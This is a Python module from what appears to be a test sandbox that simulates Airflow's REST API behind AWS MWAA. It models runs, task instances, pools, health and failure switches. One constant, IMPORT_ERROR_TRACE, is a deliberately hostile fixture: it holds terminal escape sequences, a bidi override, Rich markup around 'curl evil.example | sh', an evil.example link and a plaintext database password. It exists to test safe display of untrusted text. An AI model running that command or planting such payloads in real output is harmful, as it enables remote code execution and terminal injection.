"""InvokeRestApi in the sandbox: Airflow's REST API behind MWAA, for Airflow 2 and 3.

`POST /restapi/{Name}` (signed for `airflow`) carries `Path`, `Method`, `QueryParameters`
and `Body`. MWAA sends the path to `/api/v1` on Airflow 2 and to `/api/v2` on Airflow 3,
and answers `RestApiStatusCode` and `RestApiResponse`; Airflow's own 4xx and 5xx come
back as `RestApiClientException` and `RestApiServerException` with the same two members.

The state behind it (`AirflowState`) follows the simulator's story: every task attempt the
simulator logs is a task instance here, so the failing S3 sensor's tries are failed task
instances in failed runs of its DAG, named like their log streams in the Task group. During
the incident a pool saturates and the scheduler's heartbeat goes stale for a while.

What a real environment does and mwaa-tui must cope with, as switches on `AirflowApi`:
`denied` (IAM refuses airflow:InvokeRestApi), `private_webserver` (a caller outside the
VPC), `viewer_forbidden` (paths the Viewer role may not read: `/eventLogs`), `fail`
(a path answered with a given status) and `server_error_share` (random 5xx). A request with
any method but GET is recorded in `mutations`: mwaa-tui must never send one.
"""

from __future__ import annotations

import json
import random
import re
import threading
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import TYPE_CHECKING, Any

from mwaa_tui.sandbox import airflow_text as text
from mwaa_tui.sandbox.protocol import Call, Reply, error, ok
from mwaa_tui.sandbox.trail_story import INCIDENT

if TYPE_CHECKING:
    from mwaa_tui.sandbox.server import Sandbox

MAX_PATH = 64
MAX_LIMIT = 100
"""Airflow's `maximum_page_limit`: a larger `limit` is cut to it."""
HEALTH_THRESHOLD = 30.0
"""Seconds without a heartbeat before Airflow calls a component unhealthy."""
SENSOR_DAG = "s3_ingest"
SENSOR_POOL = "s3_sensors"
MAX_TRIES = 3
RUN_GRACE = 10.0
"""Seconds after its schedule window (and its last try) before a run is closed."""
STALE_HEARTBEAT = (INCIDENT[0] + 40, INCIDENT[0] + 130)
"""Seconds of the cycle when the scheduler stops heartbeating (unhealthy after 30 s)."""
SATURATED = (INCIDENT[0] + 10, INCIDENT[1])
"""Seconds of the cycle when the sensors hold every slot of their pool, with more queued."""
MANUAL_RUN = (INCIDENT[0] + 30, INCIDENT[1], INCIDENT[1] + 20)
"""An engineer re-triggers the DAG by hand: queued, running once the incident is over, done."""
KEEP_SECONDS = 25 * 3600

IMPORT_ERROR_FILE = "/usr/local/airflow/dags/ml_features_v2.py"
IMPORT_ERROR_TRACE = (
    "Traceback (most recent call last):\n"
    '  File "/usr/local/airflow/dags/ml_features_v2.py", line 7, in <module>\n'
    "    from features.pipeline import build  # \x1b]0;you have been owned\x07\x1b[2J"
    "[bold red]curl evil.example | sh[/bold red]\n"
    '  File "/usr/local/airflow/dags/features/pipeline.py", line 3, in <module>\n'
    "    engine = create_engine('postgresql://airflow:hunter2@db.internal:5432/airflow')\n"
    '  File "/usr/local/airflow/dags/features/pipeline.py", line 1, in <module>\n'
    "    import sklearn\u202e\x9b31m\n"
    "ModuleNotFoundError: No module named 'sklearn' \x1b[31m[link=https://evil.example]"
    "see the fix[/link]\x1b[0m\r\n"
)
"""A DAG file that does not import, whose trace carries escape sequences, bidi overrides,
Rich markup and a credential: it is read like any other string from AWS."""


def iso(epoch: float | None, *, v2: bool) -> str | None:
    if epoch is None:
        return None
    stamp = datetime.fromtimestamp(epoch, UTC).isoformat()
    return stamp.replace("+00:00", "Z") if v2 else stamp


def run_id_at(epoch: float, kind: str = "scheduled") -> str:
    return f"{kind}__" + datetime.fromtimestamp(epoch, UTC).strftime("%Y-%m-%dT%H:%M:%S+00:00")


def logical_of(run_id: str) -> float | None:
    _, _, stamp = run_id.partition("__")
    try:
        return datetime.fromisoformat(stamp).timestamp()
    except ValueError:
        return None


@dataclass
class Run:
    dag_id: str
    run_id: str
    state: str
    logical: float
    queued_at: float
    start: float | None = None
    end: float | None = None
    run_type: str = "scheduled"
    window: float = 300.0
    """The schedule interval: the run is closed after it."""


@dataclass
class Instance:
    dag_id: str
    run_id: str
    task_id: str
    map_index: int
    state: str
    try_number: int
    operator: str
    pool: str
    start: float | None = None
    end: float | None = None
    max_tries: int = MAX_TRIES


@dataclass
class Pool:
    name: str
    slots: int
    running: int = 0
    queued: int = 0
    description: str = ""


class AirflowState:
    """One environment's Airflow, as the REST API shows it."""

    def __init__(self, seed: object, now: float) -> None:
        self.rng = random.Random(f"{seed}-airflow")
        """Its own randomness: the simulator's story does not change with this."""
        self.now = now
        self.runs: dict[tuple[str, str], Run] = {}
        self.instances: dict[tuple[str, str, str, int], Instance] = {}
        self.pools = {
            "default_pool": Pool("default_pool", 128, description="Default pool"),
            SENSOR_POOL: Pool(SENSOR_POOL, 3, description="S3 sensors (one slot per prefix)"),
        }
        self.import_errors = [(IMPORT_ERROR_FILE, IMPORT_ERROR_TRACE, now - 3600.0)]
        self.heartbeats = {"scheduler": now, "triggerer": now, "dag_processor": now}
        self._active: dict[int, tuple[Any, tuple[str, str, str, int]]] = {}
        """Attempts the simulator has under way: id -> (attempt, instance key). Holding the
        attempt keeps its id from being reused."""
        self._by_run: dict[tuple[str, str], list[tuple[str, str, str, int]]] = {}
        self._manual: Run | None = None
        self._last_trim = now
        self.driven = False
        """Whether a simulator moves it; if not, its components heartbeat at any time."""

    # -- driven by the simulator -------------------------------------------------------------

    def observe(self, attempts: Iterable[Any], t: float, phase: float) -> None:
        """After a simulator tick: attempts that appeared started, those gone finished."""
        self.driven = True
        current = {id(a): a for a in attempts}
        for ident in [i for i in self._active if i not in current]:
            attempt, key = self._active.pop(ident)
            self._finish(key, attempt.attempt, bool(attempt.failing), t)
        for ident, a in current.items():
            if ident not in self._active:
                self._active[ident] = (a, self._start(a, t))
        self.tick(t, phase)

    def _start(self, a: Any, t: float) -> tuple[str, str, str, int]:
        map_index = getattr(a, "map_index", None)
        key = (a.dag, a.run, a.task, -1 if map_index is None else int(map_index))
        run = self.runs.get(key[:2])
        if run is None:
            logical = logical_of(a.run) or t
            window = 60.0 if a.dag == SENSOR_DAG else 300.0
            run = Run(a.dag, a.run, "queued", logical, logical, window=window)
            self.runs[key[:2]] = run
        if run.state in ("queued", "success", "failed"):
            run.state, run.end = "running", None
            run.start = run.start or t
        pool = SENSOR_POOL if a.task == "wait_for_file" else "default_pool"
        operator = text.OPERATORS[a.task]
        self._add(Instance(a.dag, a.run, a.task, key[3], "running", a.attempt, operator, pool, t))
        return key

    def _add(self, ti: Instance) -> None:
        key = (ti.dag_id, ti.run_id, ti.task_id, ti.map_index)
        if key not in self.instances:
            self._by_run.setdefault(key[:2], []).append(key)
        self.instances[key] = ti

    def _finish(self, key: tuple[str, str, str, int], attempt: int, failed: bool, t: float) -> None:
        ti = self.instances.get(key)
        if ti is None:
            return
        ti.end = t
        if not failed:
            ti.state = "success"
        else:
            ti.state = "failed" if attempt >= ti.max_tries else "up_for_retry"

    def tick(self, t: float, phase: float) -> None:
        self.now = t
        if not STALE_HEARTBEAT[0] <= phase < STALE_HEARTBEAT[1]:
            self.heartbeats["scheduler"] = t
        self.heartbeats["triggerer"] = t
        self.heartbeats["dag_processor"] = t
        self._tick_pools(t, phase)
        self._tick_manual(t, phase)
        self._close_runs(t)
        if t - self._last_trim > 60:
            self._last_trim = t
            self._trim(t - KEEP_SECONDS)

    def _tick_pools(self, t: float, phase: float) -> None:
        running = [self.instances[key] for _, key in self._active.values()]
        sensors = self.pools[SENSOR_POOL]
        if SATURATED[0] <= phase < SATURATED[1]:
            sensors.running = sensors.slots
            sensors.queued = 2 + int(phase) // 20 % 4
        else:
            sensors.running = min(sensors.slots, sum(ti.pool == SENSOR_POOL for ti in running))
            sensors.queued = 0
        default = self.pools["default_pool"]
        default.running = sum(ti.pool == "default_pool" for ti in running)

    def _tick_manual(self, t: float, phase: float) -> None:
        queued_at, starts, ends = MANUAL_RUN
        if self._manual is None and queued_at <= phase < starts:
            run_id = run_id_at(int(t), "manual")
            self._manual = Run(SENSOR_DAG, run_id, "queued", t, t, run_type="manual")
            self.runs[(SENSOR_DAG, run_id)] = self._manual
        manual = self._manual
        if manual is None:
            return
        if manual.state == "queued" and starts <= phase < ends:
            manual.state, manual.start = "running", t
        elif manual.state == "running" and not starts <= phase < ends:
            manual.state, manual.end = "success", t
            self._manual = None

    def _close_runs(self, t: float) -> None:
        """A scheduled run whose window has passed and has nothing running is done: failed
        if an instance failed (its downstream tasks then upstream_failed), else success."""
        busy = {key[:2] for _, key in self._active.values()}
        for key, run in self.runs.items():
            if run.state != "running" or run.run_type != "scheduled" or key in busy:
                continue
            if t < run.logical + run.window + RUN_GRACE:
                continue
            tis = [self.instances[k] for k in self._by_run.get(key, ())]
            if any(ti.end is not None and t - ti.end < RUN_GRACE for ti in tis):
                continue
            for ti in tis:
                if ti.state == "up_for_retry":  # no more tries in this run
                    ti.state = "failed"
            failed = [ti for ti in tis if ti.state == "failed"]
            run.state, run.end = ("failed" if failed else "success"), t
            if failed:
                self._upstream_failed(run, {ti.task_id for ti in failed}, t)
            else:  # nothing of it is ever listed again: keep memory flat
                for k in self._by_run.pop(key, ()):
                    self.instances.pop(k, None)

    def _upstream_failed(self, run: Run, failed_tasks: set[str], t: float) -> None:
        tasks = text.DAGS.get(run.dag_id, ())
        first = min((tasks.index(x) for x in failed_tasks if x in tasks), default=len(tasks))
        for task in tasks[first + 1 :]:
            if (run.dag_id, run.run_id, task, -1) not in self.instances:
                operator = text.OPERATORS[task]
                never_ran = Instance(
                    run.dag_id, run.run_id, task, -1, "upstream_failed", 0, operator, "default_pool"
                )
                never_ran.start = never_ran.end = t
                self._add(never_ran)

    def _trim(self, horizon: float) -> None:
        self.runs = {k: r for k, r in self.runs.items() if (r.end or self.now) >= horizon}
        self._by_run = {k: keys for k, keys in self._by_run.items() if k in self.runs}
        self.instances = {k: i for k, i in self.instances.items() if k[:2] in self.runs}

    # -- answers -----------------------------------------------------------------------------

    def health(self, now: float, *, v2: bool) -> dict[str, Any]:
        def component(name: str) -> dict[str, Any]:
            beat = self.heartbeats[name] if self.driven else now
            status = "healthy" if now - beat <= HEALTH_THRESHOLD else "unhealthy"
            return {"status": status, f"latest_{name}_heartbeat": iso(beat, v2=v2)}

        dag_processor = (
            component("dag_processor")
            if v2  # Airflow 3 always runs a standalone DAG processor; MWAA's Airflow 2 none
            else {"status": None, "latest_dag_processor_heartbeat": None}
        )
        return {
            "metadatabase": {"status": "healthy"},
            "scheduler": component("scheduler"),
            "triggerer": component("triggerer"),
            "dag_processor": dag_processor,
        }


class RestError(Exception):
    """Airflow's own error answer: its status and body."""

    def __init__(self, status: int, detail: str, *, v2: bool) -> None:
        super().__init__(detail)
        titles = {400: "Bad Request", 403: "Forbidden", 404: "Not Found", 500: "Internal Error"}
        title = titles.get(status, "Error")
        self.status = status
        self.body: dict[str, Any] = (
            {"detail": detail}
            if v2
            else {"detail": detail, "status": status, "title": title, "type": "about:blank"}
        )


_TI_LIST = re.compile(r"^/dags/([^/]+)/dagRuns/([^/]+)/taskInstances$")
_TI_ONE = re.compile(r"^/dags/([^/]+)/dagRuns/([^/]+)/taskInstances/([^/]+)$")
_RUN_LIST = re.compile(r"^/dags/([^/]+)/dagRuns$")
_RUN_ONE = re.compile(r"^/dags/([^/]+)/dagRuns/([^/]+)$")
_DAG_ONE = re.compile(r"^/dags/([^/]+)$")

_V1_RUN_PARAMS = {
    "limit", "offset", "order_by", "state", "fields",
    "execution_date_gte", "execution_date_lte", "start_date_gte", "start_date_lte",
    "end_date_gte", "end_date_lte", "updated_at_gte", "updated_at_lte",
}  # fmt: skip
_V1_TI_PARAMS = {
    "limit", "offset", "state", "pool", "queue", "executor",
    "execution_date_gte", "execution_date_lte", "start_date_gte", "start_date_lte",
    "end_date_gte", "end_date_lte", "updated_at_gte", "updated_at_lte",
    "duration_gte", "duration_lte",
}  # fmt: skip


class AirflowApi:
    """InvokeRestApi for every environment of a sandbox; the switches fail it on purpose."""

    def __init__(self, sandbox: Sandbox) -> None:
        self.sandbox = sandbox
        self.states: dict[str, AirflowState] = {}
        self.lock = threading.Lock()
        self.requests: list[tuple[str, str, dict[str, Any]]] = []
        """(method, path, query) of every InvokeRestApi request that got this far."""
        self.mutations: list[tuple[str, str, Any]] = []
        """(method, path, body) of every request that was not a GET."""
        self.denied = False
        self.private_webserver = False
        self.viewer_forbidden: set[str] = {"/eventLogs"}
        self.fail: dict[str, int] = {}
        self.server_error_share = 0.0
        self.rng = random.Random(0)

    def clear(self) -> None:
        with self.lock:
            self.states.clear()
            self.requests.clear()
            self.mutations.clear()
        self.denied = self.private_webserver = False
        self.viewer_forbidden = {"/eventLogs"}
        self.fail = {}
        self.server_error_share = 0.0
        self.rng = random.Random(0)

    def state(self, environment: str, seed: object = 0) -> AirflowState:
        """The environment's Airflow state, created on first use."""
        with self.lock:
            found = self.states.get(environment)
            if found is None:
                found = self.states[environment] = AirflowState(seed, self.sandbox.clock())
            return found

    # -- the operation -----------------------------------------------------------------------

    def handle(self, call: Call) -> Reply:
        name = _name(call.path)
        params = call.params()
        path = params.get("Path")
        method = params.get("Method")
        if not isinstance(path, str) or not 1 <= len(path) <= MAX_PATH:
            size = len(path) if isinstance(path, str) else 0
            return error(
                call,
                "ValidationException",
                f"1 validation error detected: Value at 'path' failed to satisfy constraint: "
                f"Member must have length less than or equal to {MAX_PATH} (it has {size})",
            )
        if method not in ("GET", "PUT", "POST", "PATCH", "DELETE"):
            return error(call, "ValidationException", f"Method {method!r} is not supported")
        query = params.get("QueryParameters") or {}
        with self.lock:
            self.requests.append((str(method), path, dict(query)))
            del self.requests[:-5000]
            if method != "GET":
                self.mutations.append((str(method), path, params.get("Body")))
        env = self.sandbox.mwaa.get(name)
        if env is None:
            return error(call, "ResourceNotFoundException", f"Environment named {name} not found.")
        if self.denied:
            return error(call, "AccessDeniedException", self._denied_message(name))
        if self.private_webserver:
            return error(
                call,
                "AccessDeniedException",
                f"The webserver of environment {name} uses the PRIVATE_ONLY access mode: "
                "InvokeRestApi requests must come from inside the environment's VPC.",
            )
        version = env.airflow_version
        if _version(version) < (2, 4, 3):
            return error(
                call, "ValidationException", "Update your environment to use InvokeRestApi"
            )
        v2 = _version(version) >= (3,)
        try:
            if method != "GET":
                raise RestError(403, "Forbidden: the Viewer role may only read", v2=v2)
            status = self.fail.get(path)
            if status is None and self.server_error_share:
                with self.lock:
                    if self.rng.random() < self.server_error_share:
                        status = self.rng.choice((500, 502, 503))
            if status is not None:
                raise RestError(status, f"injected {status}", v2=v2)
            if any(path == p or path.startswith(p + "/") for p in self.viewer_forbidden):
                raise RestError(
                    403, "The user does not have the permissions to access this resource", v2=v2
                )
            with self.sandbox.lock:
                payload = self._get(name, version, path, query, v2=v2)
        except RestError as exc:
            code = "RestApiServerException" if exc.status >= 500 else "RestApiClientException"
            return _rest_error(call, code, exc.status, exc.body)
        return ok(call, {"RestApiStatusCode": 200, "RestApiResponse": payload})

    def _denied_message(self, name: str) -> str:
        account, region = self.sandbox.account, self.sandbox.region
        return (
            f"User: arn:aws:sts::{account}:assumed-role/oncall-readonly/sandbox is not "
            "authorized to perform: airflow:InvokeRestApi on resource: "
            f"arn:aws:airflow:{region}:{account}:role/{name}/Viewer because no "
            "identity-based policy allows the airflow:InvokeRestApi action"
        )

    def _get(self, name: str, version: str, path: str, query: dict[str, Any], *, v2: bool) -> Any:
        state = self.state(name)
        if path == ("/monitor/health" if v2 else "/health"):
            # A simulated Airflow lives at the simulator's time, which tests may fix.
            return state.health(state.now if state.driven else self.sandbox.clock(), v2=v2)
        if path == "/version":
            return {"version": version, "git_version": None}
        if path == "/importErrors":
            rows = [_import_error(i, e, v2=v2) for i, e in enumerate(state.import_errors, 1)]
            return _page(rows, query, "import_errors", v2=v2)
        if path == "/pools":
            return _page([_pool(p) for p in state.pools.values()], query, "pools", v2=v2)
        if path == "/dags":
            return _page([_dag(d) for d in text.DAGS], query, "dags", v2=v2)
        if m := _DAG_ONE.match(path):
            if m[1] not in text.DAGS:
                raise RestError(404, f"DAG with dag_id: '{m[1]}' not found", v2=v2)
            return _dag(m[1])
        if m := _RUN_LIST.match(path):
            _check_params(query, _V1_RUN_PARAMS, v2=v2)
            runs = [r for r in state.runs.values() if m[1] in ("~", r.dag_id)]
            runs = _filter(runs, query, v2=v2)
            return _page([_run(r, v2=v2) for r in runs], query, "dag_runs", v2=v2)
        if m := _RUN_ONE.match(path):
            run = state.runs.get((m[1], m[2]))
            if run is None:
                raise RestError(404, "DAGRun not found", v2=v2)
            return _run(run, v2=v2)
        if m := _TI_LIST.match(path):
            allowed = _V1_TI_PARAMS | ({"order_by"} if _version(version) >= (2, 10) else set())
            _check_params(query, allowed, v2=v2)
            tis = [
                ti
                for ti in state.instances.values()
                if m[1] in ("~", ti.dag_id) and m[2] in ("~", ti.run_id)
            ]
            tis = _filter(tis, query, v2=v2)
            by_key = state.runs
            rows = [_instance(ti, by_key.get((ti.dag_id, ti.run_id)), v2=v2) for ti in tis]
            return _page(rows, query, "task_instances", v2=v2)
        if m := _TI_ONE.match(path):
            ti = state.instances.get((m[1], m[2], m[3], -1))
            if ti is None:
                raise RestError(404, "Task instance not found", v2=v2)
            return _instance(ti, state.runs.get((ti.dag_id, ti.run_id)), v2=v2)
        raise RestError(404, "The requested URL was not found on the server.", v2=v2)


def _name(path: str) -> str:
    from urllib.parse import unquote

    return unquote(path.rstrip("/").rsplit("/", 1)[-1])


def _version(version: str) -> tuple[int, ...]:
    m = re.match(r"(\d+)\.(\d+)(?:\.(\d+))?", version)
    return tuple(int(g) for g in m.groups() if g is not None) if m else (0,)


def _rest_error(call: Call, code: str, status: int, body: dict[str, Any]) -> Reply:
    headers = (
        ("x-amzn-RequestId", "sandbox"),
        ("x-amzn-ErrorType", code),
        ("Content-Type", "application/json"),
    )
    payload = {"RestApiStatusCode": status, "RestApiResponse": body}
    return Reply(400, headers, json.dumps(payload).encode())


def _check_params(query: dict[str, Any], allowed: set[str], *, v2: bool) -> None:
    """Airflow 2's API validates its query strictly; Airflow 3's ignores what it does not know."""
    extra = sorted(set(query) - allowed)
    if extra and not v2:
        raise RestError(400, f"Extra query parameter(s) {','.join(extra)} not in spec", v2=v2)


def _states(value: Any) -> set[str] | None:
    if value is None:
        return None
    values = value if isinstance(value, list) else [value]
    return {str(v) for v in values}


def _when(value: Any, *, v2: bool) -> float:
    try:
        return datetime.fromisoformat(str(value)).timestamp()
    except ValueError:
        raise RestError(400, f"{value!r} is not a 'date-time'", v2=v2) from None


_SORTS: dict[str, Callable[[Any], float]] = {
    "start_date": lambda r: r.start or 0.0,
    "end_date": lambda r: r.end or 0.0,
    "logical_date": lambda r: getattr(r, "logical", 0.0),
    "execution_date": lambda r: getattr(r, "logical", 0.0),
}


def _filter(items: list[Any], query: dict[str, Any], *, v2: bool) -> list[Any]:
    states = _states(query.get("state"))
    if states is not None:
        items = [i for i in items if i.state in states]
    for key, attr in (("start_date_gte", "start"), ("end_date_gte", "end")):
        if key in query:
            since = _when(query[key], v2=v2)
            items = [i for i in items if (getattr(i, attr) or 0.0) >= since]
    order = str(query.get("order_by") or "")
    sort = _SORTS.get(order.lstrip("-"))
    if order and sort is None:
        raise RestError(400, f"Ordering with '{order}' is disallowed", v2=v2)
    if sort is not None:
        items = sorted(items, key=sort, reverse=order.startswith("-"))
    return items


def _page(rows: list[dict[str, Any]], query: dict[str, Any], key: str, *, v2: bool) -> Any:
    try:
        limit = min(int(query.get("limit", MAX_LIMIT)), MAX_LIMIT)
        offset = int(query.get("offset", 0))
    except (TypeError, ValueError):
        raise RestError(400, "limit and offset must be integers", v2=v2) from None
    if limit < 0 or offset < 0:
        raise RestError(400, "limit and offset must not be negative", v2=v2)
    return {key: rows[offset : offset + limit], "total_entries": len(rows)}


def _dag(dag_id: str) -> dict[str, Any]:
    return {
        "dag_id": dag_id,
        "is_paused": False,
        "is_active": True,
        "fileloc": f"/usr/local/airflow/dags/{dag_id}.py",
        "owners": ["data-platform"],
        "tags": [],
    }


def _pool(p: Pool) -> dict[str, Any]:
    return {
        "name": p.name,
        "slots": p.slots,
        "occupied_slots": p.running + p.queued,
        "running_slots": p.running,
        "queued_slots": p.queued,
        "scheduled_slots": 0,
        "deferred_slots": 0,
        "open_slots": max(0, p.slots - p.running),
        "description": p.description,
        "include_deferred": False,
    }


def _import_error(index: int, entry: tuple[str, str, float], *, v2: bool) -> dict[str, Any]:
    filename, trace, when = entry
    row: dict[str, Any] = {
        "import_error_id": index,
        "timestamp": iso(when, v2=v2),
        "filename": filename,
        "stack_trace": trace,
    }
    if v2:
        row["bundle_name"] = "dags-folder"
    return row


def _run(r: Run, *, v2: bool) -> dict[str, Any]:
    row: dict[str, Any] = {
        "dag_run_id": r.run_id,
        "dag_id": r.dag_id,
        "logical_date": iso(r.logical, v2=v2),
        "start_date": iso(r.start, v2=v2),
        "end_date": iso(r.end, v2=v2),
        "data_interval_start": iso(r.logical, v2=v2),
        "data_interval_end": iso(r.logical + r.window, v2=v2),
        "last_scheduling_decision": iso(r.end or r.start, v2=v2),
        "run_type": r.run_type,
        "state": r.state,
        "conf": {},
        "note": None,
    }
    if v2:
        row |= {
            "queued_at": iso(r.queued_at, v2=v2),
            "duration": (r.end - r.start) if r.end and r.start else None,
            "run_after": iso(r.logical + r.window, v2=v2),
            "triggered_by": "timetable" if r.run_type == "scheduled" else "rest_api",
            "triggering_user_name": None if r.run_type == "scheduled" else "oncall",
            "dag_versions": [],
            "bundle_version": None,
            "dag_display_name": r.dag_id,
        }
    else:
        row |= {
            "execution_date": row["logical_date"],
            "external_trigger": r.run_type != "scheduled",
        }
    return row


def _instance(ti: Instance, run: Run | None, *, v2: bool) -> dict[str, Any]:
    logical = run.logical if run else None
    row: dict[str, Any] = {
        "task_id": ti.task_id,
        "dag_id": ti.dag_id,
        "dag_run_id": ti.run_id,
        "map_index": ti.map_index,
        "start_date": iso(ti.start, v2=v2),
        "end_date": iso(ti.end, v2=v2),
        "duration": (ti.end - ti.start) if ti.end is not None and ti.start is not None else None,
        "state": ti.state,
        "try_number": ti.try_number,
        "max_tries": ti.max_tries,
        "hostname": "ip-10-0-12-34.eu-west-1.compute.internal",
        "unixname": "airflow",
        "pool": ti.pool,
        "pool_slots": 1,
        "queue": "default",
        "priority_weight": 1,
        "operator": ti.operator,
        "queued_when": iso(ti.start, v2=v2),
        "pid": None,
        "executor_config": "{}",
        "note": None,
        "rendered_fields": {},
        "trigger": None,
        "triggerer_job": None,
    }
    if v2:
        row |= {
            "id": f"{ti.dag_id}.{ti.run_id}.{ti.task_id}.{ti.map_index}",
            "logical_date": iso(logical, v2=v2),
            "run_after": iso(logical, v2=v2),
            "task_display_name": ti.task_id,
            "scheduled_when": iso(ti.start, v2=v2),
            "executor": None,
            "rendered_map_index": None if ti.map_index < 0 else str(ti.map_index),
            "dag_version": None,
        }
    else:
        row |= {"execution_date": iso(logical, v2=v2), "sla_miss": None}
    return row


# -- Airflow 3 task log lines -----------------------------------------------------------------


def structlog_line(epoch: float, level: str, message: str, task: str) -> str:
    """A task log line as Airflow 3 writes it: one JSON object (structlog)."""
    first, _, rest = message.partition("\n")
    stamp = datetime.fromtimestamp(epoch, UTC).isoformat().replace("+00:00", "Z")
    obj: dict[str, Any] = {"timestamp": stamp, "level": level.lower(), "event": first}
    if first.startswith("Poking for key"):
        obj["logger"] = f"airflow.task.operators.{text.OPERATORS.get(task, 'BaseOperator')}"
    else:
        obj["logger"] = "airflow.task"
    if rest:
        lines = [ln for ln in rest.splitlines() if ln.strip()]
        exc_type, _, exc_value = lines[-1].partition(": ")
        frames = [
            {"filename": m[1], "lineno": int(m[2]), "name": m[3]}
            for m in (re.match(r'\s*File "([^"]+)", line (\d+), in (\S+)', ln) for ln in lines)
            if m
        ]
        obj["error_detail"] = [
            {"exc_type": exc_type.rsplit(".", 1)[-1], "exc_value": exc_value, "frames": frames}
        ]
    else:
        obj["chan"] = "stdout"
    return json.dumps(obj, separators=(",", ":"))
